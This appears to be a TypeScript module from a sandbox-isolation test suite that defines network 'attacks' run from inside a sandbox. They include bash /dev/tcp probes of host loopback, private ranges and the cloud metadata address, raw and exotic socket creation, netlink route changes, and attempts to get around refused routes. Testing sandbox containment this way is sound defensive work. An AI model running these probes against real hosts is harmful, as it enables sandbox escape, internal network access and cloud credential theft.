import { byScript, type Attack, type Field } from './attack.ts';
import { perl } from './perl.ts';

const NAT = { onHost: 'unsafe', network: 'nat' } as const;
const FAMILIES = [3, 5, 9, 15, 17, 21, 26, 29, 30, 31, 35, 36, 38, 39, 40, 41, 42, 43, 44, 45];

/** Bash that reads what answers at each address, and says that there is a way out at all. */
function ask(addresses: readonly string[], port: number): string {
  return `grep -q tap0 /proc/net/dev || exit 1; for a in ${addresses.join(' ')}; do timeout 2 cat </dev/tcp/$a/${port} && echo $a; done; true`;
}

/** To reach what listens on the host and around it. */
export const NETWORK: readonly Attack[] = [
  byScript(
    "reach the host's loopback",
    ({ port }) => `for a in 127.0.0.1 ::1 localhost 0.0.0.0 127.1.2.3; do cat </dev/tcp/$a/${port}; done`,
    { onHost: 'anyone' },
  ),
  byScript(
    "reach the host's other addresses",
    ({ addresses, port }) =>
      `for a in ${addresses.join(' ')} 127.0.0.1; do timeout 2 cat </dev/tcp/$a/${port}; done; true`,
    { onHost: 'anyone' },
  ),
  byScript(
    'reach unix sockets of the host, by abstract name or by path',
    ({ abstractSocket, socketFile }) =>
      perl(String.raw`
use Socket;
for my $name ("\0${abstractSocket}", '${socketFile}') {
  socket my $socket, 1, 1, 0 or next;
  loot(<$socket>) if connect $socket, pack 'S a*', 1, $name;
}`),
    { onHost: 'anyone' },
  ),
  byScript(
    'open sockets of kinds that reach past its network: vsock, packet, crypto, TIPC, Bluetooth …',
    () =>
      perl(String.raw`
for my $family (${FAMILIES.join(', ')}) {
  for my $kind (1, 2, 3, 5) { if (sys('socket', $family, $kind, 0) >= 0) { loot("family $family"); last } }
  my $pair = pack 'LL', 0, 0;
  loot("pair $family") if sys('socketpair', $family, 1, 0, $pair) == 0;
}`),
    { onHost: 'root' },
  ),
  byScript(
    'send raw packets',
    () =>
      perl(String.raw`
loot("raw @$_") for grep { sys('socket', @$_) >= 0 } [2, 3, 1], [2, 3, 255], [10, 3, 58], [2, 3, 6], [17, 3, 768], [2, 10, 768];`),
    { onHost: 'root' },
  ),
  byScript(
    'load protocols into the kernel: SCTP, DCCP, MPTCP, L2TP, UDP-Lite',
    () =>
      perl(String.raw`
for my $protocol ([1, 132], [6, 33], [1, 262], [2, 115], [2, 136], [5, 132]) {
  for my $family (2, 10) {
    my ($kind, $number) = @$protocol;
    loot("protocol $number") if sys('socket', $family, $kind, $number) >= 0 or !$REFUSED{$! + 0};
  }
}`),
    { onHost: 'unsafe' },
  ),
  byScript(
    'speak to the kernel by netlink, but for its routes',
    () => perl(`loot("netlink $_") for grep { sys('socket', 16, 3, $_) >= 0 } 1 .. 24;`),
    { onHost: 'anyone' },
  ),
  byScript(
    'change interfaces and routes',
    () =>
      perl(String.raw`
socket my $netlink, 16, 3, 0 or die;
# RTM_NEWLINK, NEWADDR, NEWROUTE, DELROUTE of loopback and of everything, each to be acknowledged
for my $message ([16, pack 'CxSlLL', 0, 0, 1, 1, 1], [20, pack 'CCCCLSSC4', 2, 8, 0, 0, 1, 8, 2, 10, 9, 9, 9],
    [24, pack 'CCCCCCCCL', 2, 0, 0, 0, 254, 3, 0, 7, 0], [25, pack 'CCCCCCCCL', 2, 0, 0, 0, 254, 0, 0, 0, 0]) {
  my ($kind, $body) = @$message;
  send $netlink, pack('LSSLL', 16 + length $body, $kind, 0x405, 1, 0) . $body, 0;
  sysread $netlink, my $reply, 4096;
  my ($length, $type, $error) = unpack 'L S x10 l', $reply;
  loot("netlink $kind") if $type == 2 and $error == 0;
}
socket my $socket, 2, 2, 0;
my $request = pack 'a16 S x22', 'lo', 0;
loot('interface down') if ioctl $socket, 0x8914, $request;`),
    { onHost: 'unsafe' },
  ),
  { name: 'reach the server that holds it', attempt: (field) => callServer(field, 'none') },
  {
    name: 'reach the server that holds it, with a way out',
    attempt: (field) => callServer(field, 'nat'),
    lacks: natLacks,
  },
  byScript(
    "reach the host's loopback, private networks and cloud metadata by its way out",
    ({ port }) =>
      ask(
        '127.0.0.1 ::1 0.0.0.0 10.0.2.2 10.0.2.3 10.0.2.15 10.0.2.255 10.1.2.3 172.16.0.1 172.17.0.1 192.168.0.1 100.64.0.1 198.18.0.1 ::ffff:127.0.0.1'.split(
          ' ',
        ),
        port,
      ) + `; timeout 2 bash -c 'cat </dev/tcp/169.254.169.254/80' && echo metadata; true`,
    NAT,
  ),
  byScript(
    "reach the host's own addresses by its way out",
    ({ addresses, port }) => ask(addresses, port),
    NAT,
  ),
  byScript(
    'get around the refused routes by naming the interface or the link',
    ({ addresses, port }) =>
      perl(String.raw`
use Socket;
open my $devices, '<', '/proc/net/dev';
grep { /tap0/ } <$devices> or die 'no way out';
for my $address (qw(${addresses.filter((each) => !each.includes(':')).join(' ')} 10.1.2.3 169.254.169.254 192.168.1.1)) {
  for my $way (['device', 1, 25, "tap0\0"], ['index', 0, 50, pack 'N', 2], ['route', 1, 5, pack 'l', 1], ['options', 0, 4, pack 'C4 a4 C', 0x83, 7, 4, 0, inet_aton('10.0.2.2'), 0]) {
    my ($name, $level, $option, $value) = @$way;
    socket my $socket, 2, 1, 0;
    setsockopt $socket, $level, $option, $value;
    local $SIG{ALRM} = sub { close $socket };
    my $flags = fcntl $socket, 3, 0;
    fcntl $socket, 4, $flags | 2048;
    connect $socket, sockaddr_in(${port}, inet_aton($address));
    my $writable = '';
    vec($writable, fileno $socket, 1) = 1;
    select undef, $writable, undef, 1.2;
    loot("$name $address") if getpeername $socket;
  }
}`),
    NAT,
  ),
];

function natLacks({ networks }: Field): string | null {
  return networks.includes('nat') ? null : 'no nat in this start mode';
}

/** Asks the server for its sandboxes from inside, by every address it might have there. */
async function callServer(field: Field, network: 'none' | 'nat'): Promise<string> {
  const { port, hostname } = new URL(field.url);
  const addresses = [hostname, '::1', '0.0.0.0', '10.0.2.2', ...field.host.addresses].join(' ');
  const request = `printf 'GET /sandboxes HTTP/1.0\\r\\nx-api-key: ${field.apiKey}\\r\\n\\r\\n' >&3; timeout 2 head -1 <&3`;
  const script = `for a in ${addresses}; do timeout 3 bash -c "exec 3<>/dev/tcp/$a/${port} && { ${request.replaceAll('$', '\\$')}; }"; done; true`;
  return (await field.run(await field.sandbox(network), script)).out;
}
